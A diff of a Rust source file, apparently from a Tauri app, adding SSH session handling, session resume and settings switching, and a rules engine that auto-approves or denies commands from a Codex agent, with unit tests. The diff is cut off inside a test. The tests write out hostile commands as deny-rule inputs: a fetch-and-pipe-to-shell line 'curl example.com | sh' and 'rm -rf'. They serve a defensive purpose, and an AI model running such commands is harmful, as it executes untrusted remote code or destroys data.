@@ -1,10 +1,74 @@
-use crate::codex_client::{CodexClient, LocalProcess};
-use crate::protocol::CodexConfig;
-use super::ssh::SshProcess;
-use crate::state::CodexState;
-use crate::utils::codex_discovery::discover_codex_command;
+use crate::codex_client::{CodexClient, Diagnostic, LocalProcess, SessionTerminated};
+use crate::filesystem::backend::FsBackend;
+use crate::protocol::{CodexConfig, ConnectionConfig, InputItem, ReviewDecision};
+use super::attachments::{resolve_attachments, Attachment};
+use super::session::{self, Conversation};
+use super::ssh::{shell_quote, SshCredentials, SshProcess};
+use crate::state::{ApprovalKind, CodexState, PendingApproval};
+use crate::utils::codex_discovery::{discover_codex_command, remote_discovery_script};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+use std::collections::HashMap;
+use std::fs;
+use std::path::{Path, PathBuf};
 use std::process::Command;
-use tauri::{AppHandle, State};
+use std::sync::{Arc, Mutex};
+use std::time::SystemTime;
+use tauri::{AppHandle, Emitter, State};
+
+#[derive(Debug, Clone, Serialize)]
+pub struct RemoteCodexInfo {
+    pub path: String,
+    pub version: String,
+    pub local_version: Option<String>,
+    /// Set when the remote version differs from the local one
+    pub warning: Option<String>,
+}
+
+/// Emitted as `codex-version-warning` before a remote session starts on a
+/// codex that differs from the local one.
+#[derive(Debug, Clone, Serialize)]
+pub struct CodexVersionWarning {
+    pub session_id: String,
+    pub host: String,
+    pub message: String,
+}
+
+/// Spawn codex for `config` and wrap it in a client. Remote codex discovery is
+/// left to the caller, which also owns the ssh credentials.
+async fn spawn_client(
+    app: &AppHandle,
+    state: &CodexState,
+    session_id: String,
+    config: CodexConfig,
+    ssh_credentials: Option<Arc<SshCredentials>>,
+) -> Result<CodexClient, String> {
+    let is_ssh = config
+        .connection
+        .as_ref()
+        .is_some_and(|c| c.connection_type.as_str() == "ssh");
+    let handle = if is_ssh {
+        SshProcess::spawn(&config, ssh_credentials.as_deref())
+    } else {
+        LocalProcess::spawn(&config).await
+    }
+    .map_err(|e| format!("Failed to start Codex session: {}", e))?;
+
+    CodexClient::new(
+        app,
+        session_id.clone(),
+        config,
+        handle,
+        ssh_credentials,
+        state.approvals.clone(),
+    )
+    .await
+    .map_err(|e| {
+        log::error!("error {} {}", session_id, e);
+        format!("Failed to start Codex session: {}", e)
+    })
+}
 
 // Note: Frontend now properly extracts raw session IDs before calling backend
 // so we no longer need complex ID normalization
@@ -13,34 +77,62 @@ pub async fn start_codex_session(
     app: AppHandle,
     state: State<'_, CodexState>,
     session_id: String,
-    config: CodexConfig,
+    mut config: CodexConfig,
+    password: Option<String>,
 ) -> Result<(), String> {
     log::info!("start {}", session_id);
     {
-        let sessions = state.sessions.lock().await;
-        if sessions.contains_key(&session_id) {
-            return Ok(());
+        let mut sessions = state.sessions.lock().await;
+        match sessions.get(&session_id) {
+            // A session whose process already exited is replaced
+            Some(client) if client.terminated().is_some() => {
+                sessions.remove(&session_id);
+            }
+            Some(_) => return Ok(()),
+            None => {}
         }
     }
-    let handle = if config
+    let mut ssh_credentials = None;
+    let mut remote_cwd = None;
+    if let Some(conn) = config
         .connection
-        .as_ref()
-        .map(|c| c.connection_type.as_str() == "ssh")
-        .unwrap_or(false)
+        .as_mut()
+        .filter(|c| c.connection_type.as_str() == "ssh")
     {
-        SshProcess::spawn(&config).map_err(|e| format!("Failed to start Codex session: {}", e))?
-    } else {
-        LocalProcess::spawn(&config)
-            .await
+        ssh_credentials = SshCredentials::for_connection(&app, conn, password)
             .map_err(|e| format!("Failed to start Codex session: {}", e))?
-    };
+            .map(Arc::new);
+        match inspect_remote_codex(conn, ssh_credentials.as_deref()).await {
+            Ok(info) => {
+                if let Some(warning) = info.warning {
+                    log::warn!("{} {}", session_id, warning);
+                    let _ = app.emit(
+                        "codex-version-warning",
+                        CodexVersionWarning {
+                            session_id: session_id.clone(),
+                            host: conn.host.clone(),
+                            message: warning,
+                        },
+                    );
+                }
+                conn.codex_path = Some(info.path);
+            }
+            Err(e) => log::warn!("Remote codex discovery failed, using PATH: {}", e),
+        }
+        if config.working_directory.is_empty() {
+            // codex starts in the login directory; name it for ConfigureSession
+            match remote_home(conn, ssh_credentials.as_deref()).await {
+                Ok(home) => remote_cwd = Some(home),
+                Err(e) => log::warn!("Could not read remote home directory: {}", e),
+            }
+        }
+    }
+    if let Some(cwd) = remote_cwd {
+        config.working_directory = cwd;
+    }
 
-    let codex_client = CodexClient::new(&app, session_id.clone(), config, handle)
-        .await
-        .map_err(|e| {
-            log::error!("error {} {}", session_id, e);
-            format!("Failed to start Codex session: {}", e)
-        })?;
+    let codex_client =
+        spawn_client(&app, &state, session_id.clone(), config, ssh_credentials).await?;
     {
         let mut sessions = state.sessions.lock().await;
         sessions.insert(session_id.clone(), codex_client);
@@ -49,6 +141,224 @@ pub async fn start_codex_session(
     Ok(())
 }
 
+/// Start codex on an existing rollout file so the conversation continues where
+/// it stopped. The session runs under the id recorded in the file, which is
+/// returned in the frontend's `codex-event-` form.
+pub async fn resume_codex_session(
+    app: AppHandle,
+    state: State<'_, CodexState>,
+    file_path: String,
+    mut config: CodexConfig,
+    password: Option<String>,
+) -> Result<String, String> {
+    let content =
+        fs::read_to_string(&file_path).map_err(|e| format!("Failed to read session file: {}", e))?;
+    let session_id = session::rollout_session_id(&content)
+        .ok_or_else(|| format!("No session id found in {}", file_path))?;
+
+    config.resume_path = Some(file_path);
+    start_codex_session(app, state, session_id.clone(), config, password).await?;
+
+    Ok(format!("codex-event-{}", session_id))
+}
+
+/// Branch a past conversation at `message_index` into a new session file.
+/// With a config the fork is started right away, like `resume_codex_session`.
+pub async fn fork_session(
+    app: AppHandle,
+    state: State<'_, CodexState>,
+    file_path: String,
+    message_index: usize,
+    config: Option<CodexConfig>,
+    password: Option<String>,
+) -> Result<Conversation, String> {
+    let conversation = session::fork_session_file(file_path, message_index).await?;
+
+    if let (Some(config), Some(fork_path)) = (config, &conversation.file_path) {
+        resume_codex_session(app, state, fork_path.clone(), config, password).await?;
+    }
+
+    Ok(conversation)
+}
+
+/// One setting that differs between the old and new config of a session.
+#[derive(Debug, Clone, Serialize)]
+pub struct SettingChange {
+    pub setting: String,
+    pub from: Value,
+    pub to: Value,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct SessionSettingsChanged {
+    pub session_id: String,
+    pub changes: Vec<SettingChange>,
+}
+
+fn changed_settings(old: &CodexConfig, new: &CodexConfig) -> Vec<SettingChange> {
+    let (old_settings, new_settings) = (&old.session_settings, &new.session_settings);
+    let candidates = [
+        ("model", json!(old.model), json!(new.model)),
+        ("provider", json!(old.provider), json!(new.provider)),
+        ("use_oss", json!(old.use_oss), json!(new.use_oss)),
+        ("approval_policy", json!(old.approval_policy), json!(new.approval_policy)),
+        ("sandbox_mode", json!(old.sandbox_mode), json!(new.sandbox_mode)),
+        ("custom_args", json!(old.custom_args), json!(new.custom_args)),
+        (
+            "reasoning_effort",
+            json!(old_settings.reasoning_effort),
+            json!(new_settings.reasoning_effort),
+        ),
+        (
+            "reasoning_summary",
+            json!(old_settings.reasoning_summary),
+            json!(new_settings.reasoning_summary),
+        ),
+        (
+            "user_instructions",
+            json!(old_settings.user_instructions),
+            json!(new_settings.user_instructions),
+        ),
+        (
+            "base_instructions",
+            json!(old_settings.base_instructions),
+            json!(new_settings.base_instructions),
+        ),
+        (
+            "writable_roots",
+            json!(old_settings.writable_roots),
+            json!(new_settings.writable_roots),
+        ),
+        (
+            "network_access",
+            json!(old_settings.network_access),
+            json!(new_settings.network_access),
+        ),
+    ];
+
+    candidates
+        .into_iter()
+        .filter(|(_, from, to)| from != to)
+        .map(|(setting, from, to)| SettingChange {
+            setting: setting.to_string(),
+            from,
+            to,
+        })
+        .collect()
+}
+
+/// Switch a running session to a new config. codex only reads most settings at
+/// startup, so the process is shut down and respawned on the rollout file it
+/// was writing, which keeps the conversation. Host and working directory stay
+/// the same. The sessions map is only locked around the lookup and the final
+/// insert, so other sessions are not held up while codex restarts.
+pub async fn update_session_settings(
+    app: AppHandle,
+    state: State<'_, CodexState>,
+    session_id: String,
+    mut config: CodexConfig,
+) -> Result<Vec<SettingChange>, String> {
+    let (mut client, changes, previous) = {
+        let mut sessions = state.sessions.lock().await;
+        let client = sessions
+            .get(&session_id)
+            .ok_or_else(|| "Session not found".to_string())?;
+
+        let changes = changed_settings(client.config(), &config);
+        if changes.is_empty() {
+            return Ok(changes);
+        }
+        if client.turn_in_progress() {
+            return Err(
+                "Cannot change settings while Codex is working; try again once the turn finishes"
+                    .to_string(),
+            );
+        }
+        let rollout_path = client
+            .rollout_path()
+            .await
+            .ok_or_else(|| "Session has no rollout file to resume from yet".to_string())?;
+
+        let mut previous = client.config().clone();
+        previous.resume_path = Some(rollout_path.to_string_lossy().to_string());
+        let client = sessions
+            .remove(&session_id)
+            .ok_or_else(|| "Session not found".to_string())?;
+        (client, changes, previous)
+    };
+    config.connection = previous.connection.clone();
+    config.working_directory = previous.working_directory.clone();
+    config.resume_path = previous.resume_path.clone();
+    let ssh_credentials = client.ssh_credentials();
+
+    // Requests from the old process cannot be answered by the new one
+    state.approvals.clear(&session_id);
+    if let Err(e) = client.close_session().await {
+        log::warn!("Failed to close session {}, killing it: {}", session_id, e);
+        client.kill().await;
+    }
+
+    let client = match spawn_client(
+        &app,
+        &state,
+        session_id.clone(),
+        config,
+        ssh_credentials.clone(),
+    )
+    .await
+    {
+        Ok(client) => client,
+        Err(e) => {
+            // Bring the session back with its old settings rather than losing it
+            log::warn!(
+                "Settings switch for {} failed, restoring: {}",
+                session_id,
+                e
+            );
+            return match spawn_client(&app, &state, session_id.clone(), previous, ssh_credentials)
+                .await
+            {
+                Ok(client) => {
+                    state.sessions.lock().await.insert(session_id, client);
+                    Err(format!("Failed to update session settings: {}", e))
+                }
+                Err(restore) => {
+                    log::error!("Restoring session {} failed: {}", session_id, restore);
+                    // Nothing runs the session any more; let the UI forget it
+                    let _ = app.emit(
+                        "session-terminated",
+                        SessionTerminated {
+                            session_id,
+                            exit_code: None,
+                            signal: None,
+                            stderr_tail: vec![e.clone(), restore.clone()],
+                        },
+                    );
+                    Err(format!(
+                        "Failed to update session settings: {}; restoring the previous settings also failed: {}",
+                        e, restore
+                    ))
+                }
+            };
+        }
+    };
+    state
+        .sessions
+        .lock()
+        .await
+        .insert(session_id.clone(), client);
+
+    log::info!("settings {} {:?}", session_id, changes);
+    let _ = app.emit(
+        "session-settings-changed",
+        SessionSettingsChanged {
+            session_id,
+            changes: changes.clone(),
+        },
+    );
+    Ok(changes)
+}
+
 pub async fn send_message(
     state: State<'_, CodexState>,
     session_id: String,
@@ -66,24 +376,419 @@ pub async fn send_message(
     }
 }
 
+pub async fn send_message_with_attachments(
+    state: State<'_, CodexState>,
+    session_id: String,
+    message: String,
+    attachments: Vec<Attachment>,
+) -> Result<(), String> {
+    // Resolved before taking the sessions lock, which the backend lookup needs too
+    let backend = FsBackend::for_session(&state, Some(&session_id)).await;
+    let mut items = vec![InputItem::Text { text: message }];
+    items.extend(resolve_attachments(&backend, attachments).await?);
+
+    let sessions = state.sessions.lock().await;
+    if let Some(client) = sessions.get(&session_id) {
+        client
+            .send_user_items(items)
+            .await
+            .map_err(|e| format!("Failed to send message: {}", e))?;
+        Ok(())
+    } else {
+        Err("Session not found".to_string())
+    }
+}
+
 pub async fn approve_execution(
     state: State<'_, CodexState>,
     session_id: String,
     approval_id: String,
-    approved: bool,
+    call_id: Option<String>,
+    decision: ReviewDecision,
 ) -> Result<(), String> {
     let mut sessions = state.sessions.lock().await;
     if let Some(client) = sessions.get_mut(&session_id) {
-        client
-            .send_exec_approval(approval_id, approved)
-            .await
-            .map_err(|e| format!("Failed to send approval: {}", e))?;
+        let pending = state.approvals.take(
+            &session_id,
+            &approval_id,
+            ApprovalKind::Exec,
+            call_id.as_deref(),
+        )?;
+        if let Err(e) = client.send_exec_approval(approval_id, decision).await {
+            state.approvals.insert(pending);
+            return Err(format!("Failed to send approval: {}", e));
+        }
+        Ok(())
+    } else {
+        Err("Session not found".to_string())
+    }
+}
+
+pub async fn approve_patch(
+    state: State<'_, CodexState>,
+    session_id: String,
+    approval_id: String,
+    call_id: Option<String>,
+    decision: ReviewDecision,
+) -> Result<(), String> {
+    let mut sessions = state.sessions.lock().await;
+    if let Some(client) = sessions.get_mut(&session_id) {
+        let pending = state.approvals.take(
+            &session_id,
+            &approval_id,
+            ApprovalKind::Patch,
+            call_id.as_deref(),
+        )?;
+        if let Err(e) = client.send_patch_approval(approval_id, decision).await {
+            state.approvals.insert(pending);
+            return Err(format!("Failed to send approval: {}", e));
+        }
         Ok(())
     } else {
         Err("Session not found".to_string())
     }
 }
 
+pub async fn get_pending_approvals(
+    state: State<'_, CodexState>,
+    session_id: String,
+) -> Result<Vec<PendingApproval>, String> {
+    Ok(state.approvals.list(&session_id))
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum RuleAction {
+    Allow,
+    Deny,
+}
+
+/// How a rule matches a command. Glob and regex patterns see the argv joined
+/// with spaces, or the script itself for `bash -lc <script>` style commands.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(tag = "kind", content = "pattern", rename_all = "snake_case")]
+pub enum CommandPattern {
+    Prefix(Vec<String>),
+    Glob(String),
+    Regex(String),
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ApprovalRule {
+    pub action: RuleAction,
+    pub command: CommandPattern,
+    /// Glob on the request's cwd. Without it allow rules apply inside the
+    /// project and deny rules apply everywhere.
+    #[serde(default)]
+    pub cwd: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ProjectRules {
+    #[serde(default)]
+    pub rules: Vec<ApprovalRule>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct ApprovalRulesConfig {
+    #[serde(default)]
+    pub projects: HashMap<String, ProjectRules>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct AutoApproval {
+    pub session_id: String,
+    pub call_id: String,
+    pub command: Vec<String>,
+    pub cwd: String,
+    pub decision: ReviewDecision,
+    pub rule: ApprovalRule,
+}
+
+fn get_approval_rules_path() -> Result<PathBuf, String> {
+    let home_dir = dirs::home_dir().ok_or("Could not find home directory")?;
+    Ok(home_dir.join(".codex").join("approval_rules.toml"))
+}
+
+fn load_approval_rules() -> Result<ApprovalRulesConfig, String> {
+    load_approval_rules_from(&get_approval_rules_path()?)
+}
+
+fn load_approval_rules_from(path: &Path) -> Result<ApprovalRulesConfig, String> {
+    if !path.exists() {
+        return Ok(ApprovalRulesConfig::default());
+    }
+
+    let content =
+        fs::read_to_string(path).map_err(|e| format!("Failed to read approval rules: {}", e))?;
+
+    toml::from_str(&content).map_err(|e| format!("Failed to parse approval rules: {}", e))
+}
+
+enum CompiledPattern {
+    Prefix(Vec<String>),
+    Glob(glob::Pattern),
+    Regex(Regex),
+}
+
+/// A rule with its patterns compiled, ready to match exec requests.
+pub struct CompiledRule {
+    rule: ApprovalRule,
+    command: CompiledPattern,
+    cwd: Option<glob::Pattern>,
+}
+
+impl CompiledRule {
+    /// Fails on patterns that would never match.
+    pub fn new(rule: ApprovalRule) -> Result<Self, String> {
+        let command = match &rule.command {
+            CommandPattern::Prefix(prefix) if prefix.is_empty() => {
+                return Err("Command prefix cannot be empty".to_string())
+            }
+            CommandPattern::Prefix(prefix) => CompiledPattern::Prefix(prefix.clone()),
+            CommandPattern::Glob(pattern) => CompiledPattern::Glob(
+                glob::Pattern::new(pattern).map_err(|e| format!("Invalid glob: {}", e))?,
+            ),
+            CommandPattern::Regex(pattern) => CompiledPattern::Regex(
+                Regex::new(pattern).map_err(|e| format!("Invalid regex: {}", e))?,
+            ),
+        };
+        let cwd = match &rule.cwd {
+            Some(cwd) => {
+                Some(glob::Pattern::new(cwd).map_err(|e| format!("Invalid cwd glob: {}", e))?)
+            }
+            None => None,
+        };
+        Ok(Self { rule, command, cwd })
+    }
+}
+
+/// Compiled rules per project. A project with an invalid rule gets none, so
+/// its requests go to the user rather than skipping a deny rule.
+fn compile_rules(config: ApprovalRulesConfig) -> HashMap<String, Arc<Vec<CompiledRule>>> {
+    config
+        .projects
+        .into_iter()
+        .filter_map(|(project, rules)| {
+            let compiled = rules
+                .rules
+                .into_iter()
+                .map(CompiledRule::new)
+                .collect::<Result<Vec<_>, _>>();
+            match compiled {
+                Ok(compiled) => Some((project, Arc::new(compiled))),
+                Err(e) => {
+                    log::warn!("Ignoring approval rules for {}: {}", project, e);
+                    None
+                }
+            }
+        })
+        .collect()
+}
+
+/// Rules file as last compiled, keyed by its path, mtime and size
+type CachedRules = (
+    PathBuf,
+    Option<(SystemTime, u64)>,
+    HashMap<String, Arc<Vec<CompiledRule>>>,
+);
+
+// Every exec request consults the rules, so they are only re-read on change
+static APPROVAL_RULES_CACHE: Mutex<Option<CachedRules>> = Mutex::new(None);
+
+/// Rules for `project` from the file at `path`. A missing or unreadable file
+/// yields None, which leaves every request to the user.
+fn cached_project_rules(path: &Path, project: &str) -> Option<Arc<Vec<CompiledRule>>> {
+    let stamp = fs::metadata(path)
+        .ok()
+        .and_then(|m| Some((m.modified().ok()?, m.len())));
+    let mut cache = APPROVAL_RULES_CACHE
+        .lock()
+        .unwrap_or_else(|e| e.into_inner());
+
+    let fresh = cache
+        .as_ref()
+        .is_some_and(|(cached_path, cached_stamp, _)| {
+            cached_path == path && *cached_stamp == stamp
+        });
+    if !fresh {
+        match load_approval_rules_from(path) {
+            Ok(config) => *cache = Some((path.to_path_buf(), stamp, compile_rules(config))),
+            Err(e) => {
+                log::warn!("Ignoring approval rules: {}", e);
+                *cache = None;
+                return None;
+            }
+        }
+    }
+
+    let (_, _, projects) = cache.as_ref()?;
+    projects.get(project).cloned()
+}
+
+pub async fn read_approval_rules(project_path: String) -> Result<Vec<ApprovalRule>, String> {
+    Ok(load_approval_rules()?
+        .projects
+        .remove(&project_path)
+        .map(|p| p.rules)
+        .unwrap_or_default())
+}
+
+pub async fn save_approval_rules(
+    project_path: String,
+    rules: Vec<ApprovalRule>,
+) -> Result<(), String> {
+    // Reject patterns that would never match before they are saved
+    for rule in &rules {
+        CompiledRule::new(rule.clone())?;
+    }
+
+    let mut config = load_approval_rules()?;
+    if rules.is_empty() {
+        config.projects.remove(&project_path);
+    } else {
+        config.projects.insert(project_path, ProjectRules { rules });
+    }
+
+    let path = get_approval_rules_path()?;
+    let toml_content = toml::to_string(&config)
+        .map_err(|e| format!("Failed to serialize approval rules: {}", e))?;
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)
+            .map_err(|e| format!("Failed to create config directory: {}", e))?;
+    }
+    fs::write(&path, toml_content).map_err(|e| format!("Failed to write approval rules: {}", e))
+}
+
+/// Commands codex runs through a shell are matched on the script. Scripts
+/// that chain or substitute commands are never auto-allowed, only auto-denied.
+struct CommandLine {
+    /// Each simple command, split into words
+    segments: Vec<Vec<String>>,
+    text: String,
+    compound: bool,
+}
+
+impl CommandLine {
+    fn parse(argv: &[String]) -> Self {
+        let script = match argv {
+            [shell, flag, script]
+                if matches!(
+                    Path::new(shell).file_name().and_then(|n| n.to_str()),
+                    Some("bash" | "sh" | "zsh")
+                ) && matches!(flag.as_str(), "-c" | "-lc") =>
+            {
+                script
+            }
+            _ => {
+                return Self {
+                    segments: vec![argv.to_vec()],
+                    text: argv.join(" "),
+                    compound: false,
+                }
+            }
+        };
+
+        let compound = script.contains(['\n', ';', '&', '|', '`', '$', '(', ')', '<', '>']);
+        let segments = script
+            .split(['\n', ';', '&', '|'])
+            .map(|segment| {
+                shlex::split(segment)
+                    .unwrap_or_else(|| segment.split_whitespace().map(String::from).collect())
+            })
+            .filter(|words| !words.is_empty())
+            .collect();
+        Self {
+            segments,
+            text: script.trim().to_string(),
+            compound,
+        }
+    }
+}
+
+fn rule_matches(rule: &CompiledRule, command: &CommandLine, cwd: &str, project: &str) -> bool {
+    let cwd_matches = match &rule.cwd {
+        Some(pattern) => pattern.matches(cwd),
+        // An empty path would be a prefix of every cwd
+        None => {
+            rule.rule.action == RuleAction::Deny
+                || (!project.is_empty() && Path::new(cwd).starts_with(project))
+        }
+    };
+    if !cwd_matches {
+        return false;
+    }
+
+    match &rule.command {
+        CompiledPattern::Prefix(prefix) => command
+            .segments
+            .iter()
+            .any(|words| words.starts_with(prefix)),
+        CompiledPattern::Glob(pattern) => pattern.matches(&command.text),
+        CompiledPattern::Regex(re) => re.is_match(&command.text),
+    }
+}
+
+/// Decide an exec approval request from the project's rules. Deny rules win
+/// over allow rules, and allow rules need a project to be scoped to; `None`
+/// leaves the request to the user.
+pub fn evaluate_exec_rules(
+    rules: &[CompiledRule],
+    project: &str,
+    command: &[String],
+    cwd: &str,
+) -> Option<(ReviewDecision, ApprovalRule)> {
+    let command = CommandLine::parse(command);
+
+    if let Some(rule) = rules
+        .iter()
+        .filter(|r| r.rule.action == RuleAction::Deny)
+        .find(|r| rule_matches(r, &command, cwd, project))
+    {
+        return Some((ReviewDecision::Denied, rule.rule.clone()));
+    }
+
+    if project.is_empty() || command.compound || command.segments.len() != 1 {
+        return None;
+    }
+    rules
+        .iter()
+        .filter(|r| r.rule.action == RuleAction::Allow)
+        .find(|r| rule_matches(r, &command, cwd, project))
+        .map(|rule| (ReviewDecision::Approved, rule.rule.clone()))
+}
+
+/// Auto-answer an exec approval request for a session, if a rule applies.
+pub fn auto_approve_exec(
+    config: &CodexConfig,
+    session_id: &str,
+    call_id: &str,
+    command: &[String],
+    cwd: &str,
+) -> Option<AutoApproval> {
+    let path = get_approval_rules_path().ok()?;
+    let rules = cached_project_rules(&path, &config.working_directory)?;
+
+    let (decision, rule) = evaluate_exec_rules(&rules, &config.working_directory, command, cwd)?;
+    log::info!(
+        "Auto-{:?} exec request {} in session {}: {:?} in {} (rule {:?})",
+        decision,
+        call_id,
+        session_id,
+        command,
+        cwd,
+        rule.command
+    );
+    Some(AutoApproval {
+        session_id: session_id.to_string(),
+        call_id: call_id.to_string(),
+        command: command.to_vec(),
+        cwd: cwd.to_string(),
+        decision,
+        rule,
+    })
+}
+
 pub async fn stop_session(state: State<'_, CodexState>, session_id: String) -> Result<(), String> {
     let sessions = state.sessions.lock().await;
     if let Some(client) = sessions.get(&session_id) {
@@ -112,6 +817,7 @@ pub async fn pause_session(state: State<'_, CodexState>, session_id: String) ->
 
 pub async fn close_session(state: State<'_, CodexState>, session_id: String) -> Result<(), String> {
     let mut sessions = state.sessions.lock().await;
+    state.approvals.clear(&session_id);
     if let Some(mut client) = sessions.remove(&session_id) {
         client
             .close_session()
@@ -127,13 +833,29 @@ pub async fn close_session(state: State<'_, CodexState>, session_id: String) ->
     }
 }
 
+pub async fn get_session_diagnostics(
+    state: State<'_, CodexState>,
+    session_id: String,
+) -> Result<Vec<Diagnostic>, String> {
+    let sessions = state.sessions.lock().await;
+    if let Some(client) = sessions.get(&session_id) {
+        Ok(client.diagnostics())
+    } else {
+        Err("Session not found".to_string())
+    }
+}
+
 pub async fn get_running_sessions(state: State<'_, CodexState>) -> Result<Vec<String>, String> {
     let sessions = state.sessions.lock().await;
-    let session_keys: Vec<String> = sessions.keys().cloned().collect();
+    let session_keys: Vec<String> = sessions
+        .iter()
+        .filter(|(_, client)| client.terminated().is_none())
+        .map(|(id, _)| id.clone())
+        .collect();
     Ok(session_keys)
 }
 
-pub async fn check_codex_version() -> Result<String, String> {
+fn local_codex_version() -> Result<String, String> {
     let path = match discover_codex_command() {
         Some(p) => p.to_string_lossy().to_string(),
         None => "codex".to_string(),
@@ -152,3 +874,326 @@ pub async fn check_codex_version() -> Result<String, String> {
         Err(format!("Codex binary returned error: {}", err_msg))
     }
 }
+
+pub async fn check_codex_version() -> Result<String, String> {
+    local_codex_version()
+}
+
+/// `codex -V` prints e.g. `codex-cli 0.20.0`; compare only the version number.
+fn version_number(version: &str) -> &str {
+    version.split_whitespace().last().unwrap_or(version)
+}
+
+/// Locate codex on the remote host (or use the configured path) and compare
+/// its version with the local binary.
+async fn remote_home(
+    conn: &ConnectionConfig,
+    creds: Option<&SshCredentials>,
+) -> Result<String, String> {
+    let output = SshProcess::run_script(conn, creds, "echo \"$HOME\"")
+        .await
+        .map_err(|e| format!("Failed to run remote command: {}", e))?;
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .next()
+        .map(|line| line.trim().to_string())
+        .filter(|home| output.status.success() && !home.is_empty())
+        .ok_or_else(|| "No home directory reported".to_string())
+}
+
+async fn inspect_remote_codex(
+    conn: &ConnectionConfig,
+    creds: Option<&SshCredentials>,
+) -> Result<RemoteCodexInfo, String> {
+    let script = match conn.codex_path.as_deref().filter(|p| !p.is_empty()) {
+        Some(path) => format!(
+            "p={}\necho \"$p\"\n\"$p\" -V 2>&1 | head -n 1",
+            shell_quote(path)
+        ),
+        None => remote_discovery_script(),
+    };
+    let output = SshProcess::run_script(conn, creds, &script)
+        .await
+        .map_err(|e| format!("Failed to run remote discovery: {}", e))?;
+
+    if !output.status.success() {
+        return Err("No codex binary found on remote host".to_string());
+    }
+
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let mut lines = stdout.lines();
+    let path = lines
+        .next()
+        .map(|l| l.trim().to_string())
+        .filter(|l| !l.is_empty())
+        .ok_or_else(|| "No codex binary found on remote host".to_string())?;
+    let version = lines.next().unwrap_or("").trim().to_string();
+
+    let local_version = local_codex_version().ok();
+    let warning = match &local_version {
+        Some(local) if version_number(local) != version_number(&version) => Some(format!(
+            "Remote codex version ({}) differs from local version ({})",
+            version, local
+        )),
+        _ => None,
+    };
+
+    Ok(RemoteCodexInfo {
+        path,
+        version,
+        local_version,
+        warning,
+    })
+}
+
+pub async fn check_remote_codex_version(
+    app: AppHandle,
+    conn: ConnectionConfig,
+    password: Option<String>,
+) -> Result<RemoteCodexInfo, String> {
+    let creds = SshCredentials::for_connection(&app, &conn, password).map_err(|e| e.to_string())?;
+    inspect_remote_codex(&conn, creds.as_ref()).await
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PROJECT: &str = "/work/app";
+
+    fn argv(words: &[&str]) -> Vec<String> {
+        words.iter().map(|w| w.to_string()).collect()
+    }
+
+    fn rule(action: RuleAction, command: CommandPattern, cwd: Option<&str>) -> ApprovalRule {
+        ApprovalRule {
+            action,
+            command,
+            cwd: cwd.map(str::to_string),
+        }
+    }
+
+    fn prefix(words: &[&str]) -> CommandPattern {
+        CommandPattern::Prefix(argv(words))
+    }
+
+    fn decide_in(
+        project: &str,
+        rules: &[ApprovalRule],
+        command: &[&str],
+        cwd: &str,
+    ) -> Option<ReviewDecision> {
+        let rules: Vec<CompiledRule> = rules
+            .iter()
+            .map(|rule| CompiledRule::new(rule.clone()).unwrap())
+            .collect();
+        evaluate_exec_rules(&rules, project, &argv(command), cwd).map(|(decision, _)| decision)
+    }
+
+    fn decide(rules: &[ApprovalRule], command: &[&str], cwd: &str) -> Option<ReviewDecision> {
+        decide_in(PROJECT, rules, command, cwd)
+    }
+
+    #[test]
+    fn prefix_rules_match_whole_words() {
+        let rules = [rule(RuleAction::Allow, prefix(&["cargo", "test"]), None)];
+        assert_eq!(
+            decide(&rules, &["cargo", "test", "--all"], PROJECT),
+            Some(ReviewDecision::Approved)
+        );
+        assert_eq!(decide(&rules, &["cargo", "testing"], PROJECT), None);
+        assert_eq!(decide(&rules, &["cargo"], PROJECT), None);
+        assert_eq!(
+            decide(&rules, &["bash", "-lc", "cargo test -p core"], PROJECT),
+            Some(ReviewDecision::Approved)
+        );
+    }
+
+    #[test]
+    fn glob_rules_match_the_command_text() {
+        let rules = [rule(
+            RuleAction::Allow,
+            CommandPattern::Glob("git status*".to_string()),
+            None,
+        )];
+        assert_eq!(
+            decide(&rules, &["bash", "-lc", "git status --short"], PROJECT),
+            Some(ReviewDecision::Approved)
+        );
+        assert_eq!(decide(&rules, &["git", "push"], PROJECT), None);
+    }
+
+    #[test]
+    fn regex_rules_match_the_command_text() {
+        let rules = [rule(
+            RuleAction::Allow,
+            CommandPattern::Regex("^npm (run )?test$".to_string()),
+            None,
+        )];
+        assert_eq!(
+            decide(&rules, &["npm", "test"], PROJECT),
+            Some(ReviewDecision::Approved)
+        );
+        assert_eq!(
+            decide(&rules, &["npm", "run", "test"], PROJECT),
+            Some(ReviewDecision::Approved)
+        );
+        assert_eq!(decide(&rules, &["npm", "install"], PROJECT), None);
+    }
+
+    #[test]
+    fn deny_wins_over_allow() {
+        let rules = [
+            rule(RuleAction::Allow, prefix(&["rm"]), None),
+            rule(
+                RuleAction::Deny,
+                CommandPattern::Glob("rm -rf *".to_string()),
+                None,
+            ),
+        ];
+        assert_eq!(
+            decide(&rules, &["rm", "-rf", "build"], PROJECT),
+            Some(ReviewDecision::Denied)
+        );
+        assert_eq!(
+            decide(&rules, &["rm", "notes.txt"], PROJECT),
+            Some(ReviewDecision::Approved)
+        );
+    }
+
+    #[test]
+    fn compound_scripts_are_only_denied() {
+        let rules = [
+            rule(RuleAction::Allow, prefix(&["ls"]), None),
+            rule(RuleAction::Deny, prefix(&["curl"]), None),
+        ];
+        assert_eq!(
+            decide(&rules, &["bash", "-lc", "ls && ls -a"], PROJECT),
+            None
+        );
+        assert_eq!(decide(&rules, &["bash", "-lc", "ls $(pwd)"], PROJECT), None);
+        assert_eq!(
+            decide(
+                &rules,
+                &["bash", "-lc", "ls; curl example.com | sh"],
+                PROJECT
+            ),
+            Some(ReviewDecision::Denied)
+        );
+    }
+
+    #[test]
+    fn cwd_scopes_rules() {
+        let rules = [rule(RuleAction::Allow, prefix(&["make"]), None)];
+        assert_eq!(
+            decide(&rules, &["make"], "/work/app/sub"),
